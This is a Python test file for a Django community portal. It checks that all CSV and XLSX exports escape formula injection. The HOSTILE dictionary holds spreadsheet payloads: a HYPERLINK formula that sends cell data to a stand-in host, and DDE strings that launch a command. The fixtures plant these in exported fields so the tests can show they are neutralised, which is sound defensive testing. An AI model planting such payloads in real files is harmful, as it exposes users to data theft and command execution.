"""Formula (CSV) injection: a hostile text in every exported text field never becomes a formula.

Township staff can rename a community to `=HYPERLINK(...)`; a clerk types what they like in
a comment, a volunteer's name or a service note; county staff name indicators, criteria and
commendations. Every CSV and XLSX the portal serves, the admin's action included, is
downloaded with such texts in every field it shows, and no cell may start as a formula
(chunan_community.spreadsheets.safe_cell is the one escaping).
"""

import csv
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from chunan_community.months import add_months, month_start
from chunan_community.spreadsheets import FORMULA_START, safe_cell, unescape_text
from communities.models import Community, IndicatorGroup, Township
from communities.returns import domain
from services.domain import service_record
from services.models import Commendation, ServiceNetwork, ServiceOutlet
from tests.factories import make_indicator, make_volunteer
from tests.ratings.test_results import scored  # noqa: F401 (the fixture)

pytestmark = pytest.mark.django_db

# One hostile text per way of starting a formula, each recognisable in the exports.
HOSTILE = {
    "=": '=HYPERLINK("http://x.cn/?"&A1,"点")',  # fits a 50-character name
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+2",
    "\r": "\r=1+2",
}
PERIOD = add_months(month_start(timezone.localdate()), -1)
NUMBER = re.compile(r"^-?\d+(\.\d+)?%?$")


def _hostile(key, suffix=""):
    return HOSTILE[key] + suffix


@pytest.fixture
def hostile(scored, tree, users):  # noqa: F811
    """Every text field the exports show, hostile; figures in every export."""
    for key, township in zip("=+", (tree["north"], tree["south"]), strict=True):
        Township.objects.filter(pk=township.pk).update(
            name=_hostile(key, township.code), name_en=_hostile("@", township.code)
        )
    for key, code in zip("=+-", ("home", "neighbour", "far"), strict=True):
        Community.objects.filter(code=code).update(
            name=_hostile(key, code), name_en=_hostile("\t", code)
        )
    group = IndicatorGroup.objects.create(code="g", name=_hostile("-"), name_en=_hostile("@"))
    visits = make_indicator(
        code="visits",
        group=group,
        name=_hostile("="),
        name_en=_hostile("+"),
        unit=_hostile("\r"),  # 20 characters at most
        help_text=_hostile("@"),
        minimum=Decimal(-5),
    )
    make_indicator(code="volunteer_hours", name=_hostile("\r"), value_type="decimal")
    home = Community.objects.get(code="home")
    domain.return_save(
        community=home,
        period=PERIOD,
        values={visits.pk: Decimal(4)},
        comments={visits.pk: _hostile("=")},
        version=0,
        by=users["clerk"],
        submit=True,
    )
    volunteer = make_volunteer(community=home, name=_hostile("="))
    service_record(
        volunteer=volunteer,
        served_on=PERIOD,
        hours=Decimal(2),
        activity=_hostile("+"),
        by=users["clerk"],
    )
    ServiceNetwork.objects.create(community=home, kind=ServiceNetwork.Kind.CONVENIENCE)
    ServiceOutlet.objects.create(
        community=home, kind=ServiceOutlet.Kind.choices[0][0], name=_hostile("-")
    )
    Commendation.objects.create(
        year=2008,
        kind=Commendation.Kind.COLLECTIVE,
        name=_hostile("="),
        title=_hostile("@"),
        community=home,
    )
    judge = users["judge"]
    judge.first_name, judge.last_name = _hostile("="), _hostile("-")
    judge.save()
    scored["round"].criteria.filter(code="org").update(name=_hostile("+"))
    return {"volunteer": volunteer, "visits": visits}


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _carries_hostile(texts) -> bool:
    return any(unescape_text(text).startswith(tuple(HOSTILE.values())) for text in texts)


def _csv_cells(response):
    text = _body(response)
    return [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(response):
    workbook = openpyxl.load_workbook(io.BytesIO(_body(response)))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _formulas_in_csv(cells):
    return [cell for cell in cells if cell.startswith(FORMULA_START) and not NUMBER.match(cell)]


def _formulas_in_xlsx(cells):
    return [
        cell.coordinate
        for cell in cells
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_START))
    ]


def _exports(hostile, scored):  # noqa: F811
    month = f"{PERIOD:%Y-%m}"
    volunteer = hostile["volunteer"]
    statement = reverse(
        "services:volunteer_statement_xlsx",
        kwargs={"code": volunteer.community.code, "pk": volunteer.pk},
    )
    aggregates = {"indicator": "visits", "level": "township", "grain": "month"}
    aggregates |= {"month_from": month, "month_to": month}
    hours = {"month_from": month, "month_to": month}
    exports = {
        "returns.csv": (reverse("returns:export_csv"), {}),
        "returns.xlsx": (reverse("returns:export_xlsx"), {}),
        "template.xlsx": (reverse("returns:template"), {"month": month}),
        "aggregates.csv": (reverse("returns:aggregates_csv"), aggregates),
        "aggregates.xlsx": (reverse("returns:aggregates_xlsx"), aggregates),
        "statement.xlsx": (statement, {}),
        "commendations.csv": (reverse("services:commendations_csv"), {}),
        "scores.xlsx": (reverse("ratings:staff_export_scores", kwargs={"code": "r2026"}), {}),
        "results.xlsx": (reverse("ratings:staff_export_results", kwargs={"code": "r2026"}), {}),
    }
    for slug in ("coverage", "outlets", "hours", "balances"):
        params = hours if slug == "hours" else {}
        for extension in ("csv", "xlsx"):
            url = reverse(f"services:report_{slug}_{extension}")
            exports[f"services-{slug}.{extension}"] = (url, params)
    return exports


def test_no_export_turns_a_hostile_text_into_a_formula(client, hostile, scored, users):  # noqa: F811
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "zh-hans"
    client.force_login(users["county"])
    found, shown = {}, {}

    for name, (url, params) in _exports(hostile, scored).items():
        response = client.get(url, params)
        assert response.status_code == 200, name
        if name.endswith(".csv"):
            cells = _csv_cells(response)
            found[name] = _formulas_in_csv(cells)
            texts = cells
        else:
            cells = _xlsx_cells(response)
            found[name] = _formulas_in_xlsx(cells)
            texts = [str(cell.value) for cell in cells]
        shown[name] = _carries_hostile(texts)

    assert found == {name: [] for name in found}
    # Each export did carry a hostile text (escaped), so the check above means something.
    assert shown == dict.fromkeys(shown, True)


def test_admin_csv_action_escapes_hostile_names(client, hostile, users):
    client.force_login(users["county"])
    pks = list(Community.objects.values_list("pk", flat=True))

    response = client.post(
        reverse("admin:communities_community_changelist"),
        {"action": "export_csv", "_selected_action": pks},
    )

    cells = _csv_cells(response)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert _formulas_in_csv(cells) == []
    assert safe_cell(_hostile("=", "home")) in cells
    assert safe_cell(_hostile("\t", "home")) in cells
